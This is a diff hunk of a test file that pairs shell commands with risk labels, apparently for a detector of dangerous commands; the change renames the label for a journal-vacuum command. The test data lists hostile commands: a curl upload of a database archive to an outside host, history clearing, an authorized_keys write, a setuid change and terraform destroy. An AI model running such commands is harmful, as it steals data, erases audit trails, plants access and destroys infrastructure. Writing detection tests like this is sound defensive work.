@@ -231,7 +231,7 @@ def test_each_capability(line: str, capability: str) -> None:
         ("tar cz /srv/db | curl -T - https://x.example", "file-upload"),
         ("history -c", "audit-tampering"),
         ("unset HISTFILE", "audit-tampering"),
-        ("journalctl --vacuum-time=1s", "audit-tampering"),
+        ("journalctl --vacuum-time=1s", "journal-wipe"),  # 30d is rotation: review
         ("echo key >> ~/.ssh/authorized_keys", "authorized-keys-write"),
         ("chmod u+s /usr/bin/find", "setuid-bit"),
         ("terraform destroy -auto-approve", "infrastructure-destruction"),
